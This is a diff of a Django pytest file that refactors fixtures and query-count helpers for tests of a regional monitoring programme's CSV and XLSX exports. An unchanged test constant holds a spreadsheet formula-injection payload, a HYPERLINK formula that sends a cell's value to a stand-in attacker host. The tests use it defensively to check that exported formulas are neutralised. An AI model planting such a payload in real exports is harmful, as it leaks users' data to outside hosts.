@@ -6,8 +6,6 @@ import io
 from decimal import Decimal
 
 import pytest
-from django.db import connection
-from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from openpyxl import load_workbook
 
@@ -22,8 +20,9 @@ from regions.tests.factories import (
     TargetFactory,
     UserFactory,
 )
+from regions.tests.world import world_build
 from toptechniek.common.exports import neutralise
-from toptechniek.common.testing import World
+from toptechniek.common.testing import queries_in, queries_of
 
 from .factories import MonitorReportFactory, RealisationFactory
 
@@ -50,24 +49,28 @@ S_LABELS = dict(MonitorReport.Status.choices)
 INJECTION = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
 
 
-def add_region(w, name: str, slug: str, landsdeel: str = "noord"):
-    region = RegionFactory(programme=w.programme, name=name, slug=slug, landsdeel=landsdeel)
+def add_report(w, region):
+    """A submitted 2013 report of the region with two indicators (targets 2012 and 2013) and their figures."""
     report = MonitorReportFactory(region=region, programme_year=w.year, status=MonitorReport.Status.SUBMITTED)
     for code, value in (("A1", Decimal("120")), ("A2", Decimal("12.5"))):
-        indicator = IndicatorFactory(region=region, code=code, name=f"Indicator {code} {name}")
+        indicator = IndicatorFactory(region=region, code=code, name=f"Indicator {code} {region.name}")
         TargetFactory(indicator=indicator, year=2013, value=Decimal("100"))
         TargetFactory(indicator=indicator, year=2012, value=Decimal("90"))
         RealisationFactory(report=report, indicator=indicator, value=value)
-    return region, report
+    return report
+
+
+def add_region(w, name: str, slug: str, landsdeel: str = "noord"):
+    region = RegionFactory(programme=w.programme, name=name, slug=slug, landsdeel=landsdeel)
+    return region, add_report(w, region)
 
 
 @pytest.fixture
 def world():
-    w = World()
-    w.programme = ProgrammeFactory(slug="ttib", name="Toptechniek in bedrijf")
-    w.year = ProgrammeYearFactory(programme=w.programme, year=2013, report_due_date=datetime.date(2014, 3, 1))
-    w.office = UserFactory(email="office@t.example", office=True)
-    w.region, w.report = add_region(w, "Friesland", "friesland")
+    w = world_build(programme={"slug": "ttib", "name": "Toptechniek in bedrijf"}, regions=("friesland",), viewer=False)
+    w.year = w.years[2013]
+    w.region = w.regions["friesland"]
+    w.report = add_report(w, w.region)
     indicator = IndicatorFactory(
         region=w.region, code="B1", name='Bedrijven; "partners"\nnieuw', unit="=1+1", baseline_value=Decimal("7.25")
     )
@@ -220,16 +223,15 @@ def test_realisations_xlsx_stores_formulas_as_text(client, world):
 def test_realisation_export_query_count_does_not_grow_with_regions(client, world, url):
     client.force_login(world.office)
     client.get(url())  # warm the session and permission caches
-    with CaptureQueriesContext(connection) as one_region:
-        assert client.get(url()).status_code == 200
+    one_region = queries_of(client, url())
     add_region(world, "Groningen", "groningen")
     add_region(world, "Zeeland", "zeeland", landsdeel="zuid")
 
-    with CaptureQueriesContext(connection) as three_regions:
+    with queries_in() as three_regions:
         response = client.get(url())
 
     assert response.status_code == 200
-    assert len(three_regions) == len(one_region) == 6  # session, user, programme, year, the rows, the audit entry
+    assert len(three_regions) == one_region == 6  # session, user, programme, year, the rows, the audit entry
     if url is csv_url:
         assert len(read_csv(response)) == 1 + 3 + 2 + 2
 
